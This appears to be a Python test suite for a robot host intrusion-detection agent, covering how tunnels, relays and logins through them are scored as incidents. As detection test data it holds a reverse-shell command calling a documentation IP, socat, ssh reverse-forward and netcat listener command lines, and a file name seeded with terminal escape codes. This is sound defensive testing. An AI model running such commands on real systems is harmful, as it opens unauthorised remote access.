"""Who comes in through a program that holds a connection of its own, and what is made of it."""

import itertools
import random

import pytest

from tests.unit.host.judge.recording import OUTSIDE, PHONE, SSHD, Recording, Verdicts, hops
from wachhund_agent.sensors.relay_statistics import AGREEING_BITS, ANSWERED_BITS, CERTAIN_BITS


def robot_with_sshd() -> Recording:
    """A robot whose sshd listens, all senses seeing."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD, existing=True)
    return scene


def login_through_agentd(*, sure: bool = True) -> Recording:
    """agentd dials out, opens ssh on request, pi logs in; the bytes show a relay if `sure`."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd", ["agentd", "-q"])
    outer = scene.dial(812)
    scene.wait(30)
    scene.process(900, SSHD, line=(100,))
    inner, accepted = scene.within(812, 900, 22)
    scene.relay(outer, inner, 812)
    scene.ssh_login(100, 900)
    if sure:
        scene.wait(4)
        scene.relay(outer, inner, 812, "relay")
    scene.wait(5)
    scene.close(accepted)
    return scene


def test_a_login_through_a_relay_is_one_critical_incident_with_the_whole_path() -> None:
    """The question of the house: who, by which way."""
    found = Verdicts(login_through_agentd().facts, name="go1-07")
    incident = found.only
    path = ["203.0.113.7", "relay /opt/x/agentd", "loopback", "ssh:22", "pi"]
    assert (incident["kind"], incident["level"]) == ("remote-control", "critical")
    assert hops(incident["origin"]) == path
    assert (incident["surface"], incident["unknown"]) == ("ssh", [])
    (session,) = found.sessions.values()
    assert (session["carrier"], session["user"], session["incident"]) == ("relay", "pi", incident["id"])
    assert (session["bytes_in"], session["bytes_out"], session["last_t"] is None) == (1000, 2000, False)
    assert {"T1572", "T1021.004"} <= set(incident["attack"])
    assert incident["advice"]


@pytest.mark.parametrize("deleted", [True, False])
def test_a_relay_whose_file_goes_once_it_runs_hides_it(deleted: bool) -> None:
    """At the start of the process it was there; the relay sensor looks again."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    inner, _ = scene.within(812, 100, 22)
    scene.relay(outer, inner, 812, "relay", exe_deleted=deleted)
    assert ("T1070.004" in Verdicts(scene.facts).only["attack"]) is deleted


def test_the_title_names_service_user_and_robot() -> None:
    """It is read on a phone, at night."""
    scene = Recording("abcdefghij")
    scene.facts = [
        type(fact)("abcdefghij", fact.t, "boot", fact.ref, fact.observation) for fact in login_through_agentd().facts
    ]
    title = Verdicts(scene.facts, name="go1-07").only["title"]
    assert title == "Remote control not allowed: ssh as pi through an unnamed relay (agentd) on go1-07"


def test_the_account_of_a_login_that_starts_no_program_is_the_one_that_sshd_told() -> None:
    """`ssh -N` forwards a port and has no shell; a shell's start may also be lost."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(30)
    inner, accepted = scene.within(812, 900, 22)
    scene.relay(outer, inner, 812)
    scene.tell("login.start", user="pi", method="publickey", service="sshd", flow=accepted)
    incident = Verdicts(scene.facts).only
    assert (incident["level"], hops(incident["origin"])[-1]) == ("high", "pi")


def test_a_login_without_a_connection_that_is_known_names_nobody() -> None:
    """A console, or a log's line whose connection was gone: no session is given an account by guess."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(30)
    inner, _ = scene.within(812, 900, 22)
    scene.relay(outer, inner, 812)
    scene.tell("login.start", user="pi", service="utmp", flow=None)
    scene.tell("login.start", user="mallory", service="sshd", flow="0" * 16)
    assert {session["user"] for session in Verdicts(scene.facts).sessions.values()} == {None}


def test_an_idle_relay_is_at_most_medium() -> None:
    """Structure alone is a reason to look, not to wake somebody."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(30)
    inner, _ = scene.within(812, None, 22)
    scene.relay(outer, inner, 812)
    incident = Verdicts(scene.facts).only
    assert (incident["kind"], incident["level"]) == ("relay", "medium")
    assert any("too few have moved" in line for line in incident["unknown"])


def test_a_login_through_a_suspected_relay_is_high_before_its_bytes_are_weighed() -> None:
    """Somebody typed one command and left: too few bytes for a verdict, but he was in."""
    incident = Verdicts(login_through_agentd(sure=False).facts).only
    assert (incident["kind"], incident["level"]) == ("remote-control", "high")
    assert hops(incident["origin"])[:2] == ["203.0.113.7", "suspected relay /opt/x/agentd"]


def test_the_robots_word_without_numbers_convinces_nobody() -> None:
    """The host decides again from the evidence; a verdict alone is only somebody's opinion."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(30)
    inner, _ = scene.within(812, None, 22)
    scene.relay(outer, inner, 812, "relay", evidence={})
    assert Verdicts(scene.facts).only["level"] == "medium"


@pytest.mark.parametrize(
    ("coming", "going"), [(AGREEING_BITS, ANSWERED_BITS), (17.4, 12.3), (CERTAIN_BITS, 0.0), (11.0, 19.0)]
)
def test_what_convinces_an_agent_convinces_here(coming: float, going: float) -> None:
    """An agent does not weigh a pair again that it calls a relay: there is no later word to wait for."""
    scene = Recording()
    scene.coverage()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.listen(1883, 100, "/usr/sbin/mosquitto")
    scene.wait(5)
    inner, _ = scene.within(812, 100, 1883)
    scene.relay(outer, inner, 812, "relay", evidence={"bits_in": coming, "bits_out": going})
    assert Verdicts(scene.facts).only["kind"] == "remote-control"


def test_bytes_out_of_all_proportion_are_no_relay() -> None:
    """A poll of 100 bytes that draws megabytes from a service is a client, whatever the moments say."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    inner, _ = scene.within(812, None, 22)
    scene.relay(outer, inner, 812, "relay", evidence={"bits_in": 40.0, "bits_out": 0.0, "bytes": [100, 9000, 1, 1]})
    assert Verdicts(scene.facts).only["level"] == "medium"


def test_a_suspicion_that_the_bytes_refute_closes_itself_and_comes_back_with_new_facts() -> None:
    """Few alerts: what turned out harmless must not stay open; what starts again must not stay closed."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    inner, _ = scene.within(812, None, 1883)
    scene.relay(outer, inner, 812)
    scene.wait(60)
    scene.relay(outer, inner, 812, "not-a-relay")
    closed = Verdicts(scene.facts).only
    assert (closed["state"], closed["close_reason"]) == ("closed", "false-alarm")
    scene.wait(60)
    scene.relay(outer, inner, 812, "relay")
    again = Verdicts(scene.facts).only
    assert (again["id"], again["state"], again["came_back"]) == (closed["id"], "open", True)
    assert again["level"] == "critical"


def test_telemetry_is_no_incident() -> None:
    """Bytes that only go out are no control."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/sender")
    outer = scene.dial(812)
    inner, _ = scene.within(812, None, 7000)
    scene.relay(outer, inner, 812, "one-way-out", evidence={"bits_in": 0.0, "bits_out": 44.0})
    assert Verdicts(scene.facts).incidents == {}


def test_a_server_that_asks_its_database_for_a_visitor_is_no_relay() -> None:
    """By bytes it is one (relay.md, the false one); direction and inner service tell it apart."""
    scene = robot_with_sshd()
    scene.process(300, "/usr/bin/python3", ["app.py"])
    scene.listen(8000, 300, "/usr/bin/python3")
    scene.process(301, "/usr/lib/postgresql/bin/postgres")
    scene.listen(5432, 301, "/usr/lib/postgresql/bin/postgres", "127.0.0.1")
    outer = scene.accept(300, 8000, PHONE)
    inner, _ = scene.within(300, 301, 5432)
    scene.relay(outer, inner, 300, "relay")
    assert Verdicts(scene.facts).incidents == {}


def test_an_accepted_connection_passed_on_to_ssh_is_a_relay() -> None:
    """socat on a port of its own: whoever comes in there means sshd."""
    scene = robot_with_sshd()
    scene.process(500, "/usr/bin/socat", ["socat", "TCP-LISTEN:2222", "TCP:127.0.0.1:22"])
    scene.listen(2222, 500, "/usr/bin/socat")
    outer = scene.accept(500, 2222, PHONE)
    scene.process(900, SSHD, line=(100,))
    inner, _ = scene.within(500, 900, 22)
    scene.relay(outer, inner, 500)
    scene.ssh_login(100, 900)
    scene.relay(outer, inner, 500, "relay")
    found = Verdicts(scene.facts)
    assert hops(found.only["origin"]) == [PHONE, "relay /usr/bin/socat", "loopback", "ssh:22", "pi"]
    assert len(found.sessions) == 1, "one person, not one at each end of the relay"


def test_a_service_that_no_port_names_is_called_by_its_program() -> None:
    """The demo's service: loopback only, a port of its own."""
    scene = robot_with_sshd()
    scene.process(400, "/opt/robot/steer")
    scene.listen(7777, 400, "/opt/robot/steer", "127.0.0.1")
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(10)
    inner, _ = scene.within(812, 400, 7777)
    scene.relay(outer, inner, 812)
    first = Verdicts(scene.facts).only
    assert (first["kind"], first["level"]) == ("relay", "low")
    scene.relay(outer, inner, 812, "relay")
    incident = Verdicts(scene.facts).only
    assert (incident["id"], incident["level"], incident["surface"]) == (first["id"], "critical", "web")
    assert hops(incident["origin"]) == ["203.0.113.7", "relay /opt/x/agentd", "loopback", "steer:7777"]


def test_a_relay_to_another_board_names_that_board() -> None:
    """The Nanos have their own ssh; the Pi only sees the way there."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(5)
    inner = scene.dial(812, ("192.168.123.13", 22))
    scene.relay(outer, inner, 812)
    scene.relay(outer, inner, 812, "relay")
    origin = Verdicts(scene.facts).only["origin"]
    assert hops(origin) == ["203.0.113.7", "relay /opt/x/agentd", "ssh:22", "?"]
    assert origin[2]["address"] == "192.168.123.13"


def test_a_program_that_is_started_again_goes_on_with_its_story() -> None:
    """autossh restarts its ssh all day: one incident, not one a restart."""
    scene = robot_with_sshd()
    for pid in (812, 813, 814):
        scene.process(pid, "/usr/bin/ssh", ["ssh", "-N", "-R", "2222:localhost:22", "x@203.0.113.7"])
        outer = scene.dial(pid)
        scene.wait(5)
        inner, accepted = scene.within(pid, None, 22)
        scene.relay(outer, inner, pid, "relay")
        scene.close(accepted)
        scene.tell("process.exit", puid=f"{pid}-9", exe="/usr/bin/ssh", duration_s=5)
        scene.wait(600)
    assert len(Verdicts(scene.facts).only["sessions"]) == 3


def test_a_listener_of_somebody_who_came_through_a_relay_adds_to_the_incident() -> None:
    """The second door is opened behind the first one."""
    scene = login_through_agentd()
    scene.process(950, "/bin/nc", ["nc", "-l", "4444"], user="pi", line=(903, 901, 900, 100))
    scene.listen(4444, 950, "/bin/nc")
    incident = Verdicts(scene.facts).only
    assert any("4444" in line and "listener" in line for line in incident["story"])
    assert "behaviour: new listener behind the same door" in incident["rules"]


def test_a_command_typed_in_a_relayed_session_belongs_to_its_incident() -> None:
    """One attack, one incident: a rule's match under the session adds to it."""
    scene = login_through_agentd()
    line = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
    scene.process(951, "/bin/bash", line, user="pi", line=(903, 901, 900, 100))
    incident = Verdicts(scene.facts).only
    assert any("Reverse shell by its command" in rule for rule in incident["rules"])


@pytest.mark.parametrize("batch", [1, 2, 7, 1000])
def test_batches_do_not_change_what_is_found(batch: int) -> None:
    """Live facts come one by one, a replay in thousands: ids and words must be the same."""
    facts = login_through_agentd().facts
    assert Verdicts(facts, batch).incidents == Verdicts(facts).incidents


def test_doubled_facts_change_nothing() -> None:
    """Delivery is at least once."""
    facts = login_through_agentd().facts
    doubled = list(itertools.chain.from_iterable((fact, fact) for fact in facts))
    once, twice = Verdicts(facts), Verdicts(doubled)
    assert twice.incidents == once.incidents
    assert twice.sessions == once.sessions


@pytest.mark.parametrize("seed", range(20))
def test_facts_out_of_order_lead_to_the_same_incident(seed: int) -> None:
    """Sensors speak a moment apart: neighbours may change places."""
    facts = login_through_agentd().facts
    order = random.Random(seed)
    shuffled = sorted(facts, key=lambda fact: fact.ref[0] + order.uniform(0, 3))
    incident = Verdicts(shuffled).only
    assert (incident["kind"], incident["level"]) == ("remote-control", "critical")
    assert hops(incident["origin"]) == ["203.0.113.7", "relay /opt/x/agentd", "loopback", "ssh:22", "pi"]


def test_a_close_without_its_open_is_still_a_session() -> None:
    """A fact may be lost; the last one carries all fields."""
    scene = robot_with_sshd()
    _, accepted = scene.within(812, 900, 22)
    scene.close(accepted)
    opened = [fact for fact in scene.facts if fact.observation.kind != "flow.open"]
    assert len(Verdicts(opened).sessions) == 1


def test_a_restarted_agent_goes_on_with_open_sessions() -> None:
    """kill -9 of the agent must not end or double what it sees."""
    scene = login_through_agentd(sure=False)
    scene.facts = [fact for fact in scene.facts if fact.observation.kind != "flow.close"]
    flows = {
        fact.observation.fields["flow"]: fact.observation.fields
        for fact in scene.facts
        if "flow" in fact.observation.fields
    }
    scene.wait(3)
    scene.tell("agent.start", version="1", build_sha256=None, reason="after an unclean stop", clean=False)
    for name, fields in flows.items():
        scene.tell("flow.open", **{**fields, "flow": f"again-{name}", "existing": True})
    scene.wait(60)
    scene.tell("heartbeat")
    found = Verdicts(scene.facts)
    (session,) = found.sessions.values()
    assert session["last_t"] is None
    assert found.only["sessions"][0]["id"] == session["id"]


def test_a_session_that_ended_while_no_agent_ran_is_ended() -> None:
    """An open session that is not there any more would be a lie."""
    scene = login_through_agentd(sure=False)
    scene.facts = [fact for fact in scene.facts if fact.observation.kind != "flow.close"]
    scene.tell("agent.start", version="1", build_sha256=None, reason="after an unclean stop", clean=False)
    scene.wait(60)
    scene.tell("heartbeat")
    (session,) = Verdicts(scene.facts).sessions.values()
    assert session["last_t"] is not None


def test_a_reboot_ends_all_sessions() -> None:
    """Processes and connections do not survive it, and their ids begin anew."""
    scene = login_through_agentd(sure=False)
    facts = [fact for fact in scene.facts if fact.observation.kind != "flow.close"]
    last = facts[-1]
    observation = type(last.observation)("heartbeat", last.t + 90, 5.0, "agent", {})
    facts.append(type(last)(None, last.t + 90, None, type(last.ref)(999), observation))
    (session,) = Verdicts(facts).sessions.values()
    assert session["last_t"] is not None


def test_hostile_names_are_shown_as_codes() -> None:
    """A program's name is its maker's choice: no escape sequence or direction mark reaches a terminal or page."""
    scene = robot_with_sshd()
    evil = "/tmp/a\x1b[2J\u202egpj\nx"
    scene.process(812, evil, [evil, "\x07\u2066"])
    outer = scene.dial(812)
    scene.wait(5)
    inner, _ = scene.within(812, None, 22)
    scene.relay(outer, inner, 812, "relay")
    incident = Verdicts(scene.facts).only
    words = "".join(
        [incident["title"], *incident["story"], *incident["advice"], *incident["unknown"], *incident["rules"]]
    )
    assert not {"\x1b", "\u202e", "\n", "\x07", "\u2066"} & set(words)
    assert "\\x1b" in incident["title"]
    assert "\\u202e" in incident["title"]


def test_what_the_robot_could_not_see_is_said() -> None:
    """Green means "I looked"; so does red."""
    scene = Recording()
    sensor = {"source": "proc", "state": "poll", "interval_s": 1.0, "dropped": 3, "why": "not root"}
    scene.tell("coverage", sensors={"process": sensor, "tcp": {**sensor, "state": "blind"}})
    scene.facts += login_through_agentd().facts[3:]
    unknown = " ".join(Verdicts(scene.facts).only["unknown"])
    assert "every 1.0 s" in unknown
    assert "tcp sensor is blind: not root" in unknown
    assert "lost 3 events" in unknown


def test_the_outside_address_is_the_one_the_relay_fact_names() -> None:
    """A program with several connections: the sensor saw which of them moved."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    scene.dial(812, ("198.51.100.1", 80))
    outer = scene.dial(812, OUTSIDE)
    scene.dial(812, ("198.51.100.2", 80))
    scene.wait(5)
    inner, _ = scene.within(812, None, 22)
    scene.relay(outer, inner, 812)
    scene.relay(outer, inner, 812, "relay")
    assert hops(Verdicts(scene.facts).only["origin"])[0] == OUTSIDE[0]


def test_a_suspicion_names_the_whole_path_before_anybody_is_known_to_have_come() -> None:
    """The first alert is read, too; and a suspicion is not yet a session."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(5)
    inner, _ = scene.within(812, None, 1883)
    scene.relay(outer, inner, 812)
    found = Verdicts(scene.facts)
    assert hops(found.only["origin"]) == ["203.0.113.7", "suspected relay /opt/x/agentd", "loopback", "mqtt:1883"]
    assert found.sessions == {}


@pytest.mark.parametrize("joined_by", ["same process", "parent", "pipe", "unix socket", "pipe outwards", None])
def test_two_halves_that_can_only_report_are_not_suspected_but_their_bytes_convict_them(joined_by: object) -> None:
    """`mosquitto_sub ... | mosquitto_pub ...`: no word from outside comes through that pipe."""
    scene = robot_with_sshd()
    scene.process(812, "/usr/bin/mosquitto_pub")
    outer = scene.dial(812)
    inner, _ = scene.within(812, None, 1883)
    structure = {"outer_age_s": 0.3, "since_outer_data_s": 0.3, "family": ["812-9", "813-9"], "joined_by": joined_by}
    scene.relay(outer, inner, 812, structure=structure)
    assert bool(Verdicts(scene.facts).incidents) == (joined_by != "pipe outwards")
    scene.relay(outer, inner, 812, "relay", structure=structure)
    assert Verdicts(scene.facts).only["level"] == "critical"


def test_a_tunnel_that_is_called_on_a_web_port_is_one_story_with_the_login_through_it() -> None:
    """Its caller was a visitor of a page until he was seen to go on: nothing stays beside the tunnel's story."""
    scene = robot_with_sshd()
    scene.process(812, "/usr/bin/hts", ["hts", "-w", "-F", "127.0.0.1:22", "443"])
    scene.listen(443, 812, "/usr/bin/hts")
    scene.accept(812, 443, OUTSIDE[0])
    outer = scene.accept(812, 443, OUTSIDE[0])
    scene.process(900, SSHD, line=(100,))
    inner, _ = scene.within(812, 900, 22)
    scene.relay(outer, inner, 812)
    scene.ssh_login(100, 900)
    scene.wait(2)
    scene.relay(outer, inner, 812, "relay")
    for batch in (1, 7, len(scene.facts)):
        found = Verdicts(scene.facts, batch)
        parts = [one for one in found.incidents.values() if one["joined"] is not None]
        (whole,) = (one for one in found.incidents.values() if one["joined"] is None)
        assert (whole["kind"], whole["tunnel"], whole["surface"]) == ("remote-control", "httptunnel", "ssh")
        assert hops(whole["origin"]) == [OUTSIDE[0], "relay /usr/bin/hts", "loopback", "ssh:22", "pi"]
        assert [(one["joined"], one["sessions"]) for one in parts] == [(whole["id"], [])]
        assert whole["id"] in parts[0]["story"][-1]


def test_every_later_connection_of_a_proven_relay_is_a_session_at_once() -> None:
    """Bytes were weighed once; the next visitor needs no new proof."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/agentd")
    outer = scene.dial(812)
    scene.wait(5)
    inner, accepted = scene.within(812, None, 1883)
    scene.relay(outer, inner, 812, "relay")
    scene.close(accepted)
    scene.wait(900)
    scene.within(812, None, 1883)
    found = Verdicts(scene.facts)
    assert [session["last_t"] is None for session in found.sessions.values()] == [False, True]
    assert len(found.only["sessions"]) == 2


def test_a_bridge_that_only_sends_closes_its_suspicion() -> None:
    """An MQTT bridge to a cloud looks like a relay by structure, and is telemetry by its bytes."""
    scene = robot_with_sshd()
    scene.process(812, "/opt/x/bridge")
    outer = scene.dial(812)
    scene.wait(5)
    inner, _ = scene.within(812, None, 1883)
    scene.relay(outer, inner, 812)
    scene.relay(outer, inner, 812, "one-way-out", evidence={"bits_in": 0.0, "bits_out": 90.0})
    incident = Verdicts(scene.facts).only
    assert (incident["state"], incident["level"]) == ("closed", "medium")
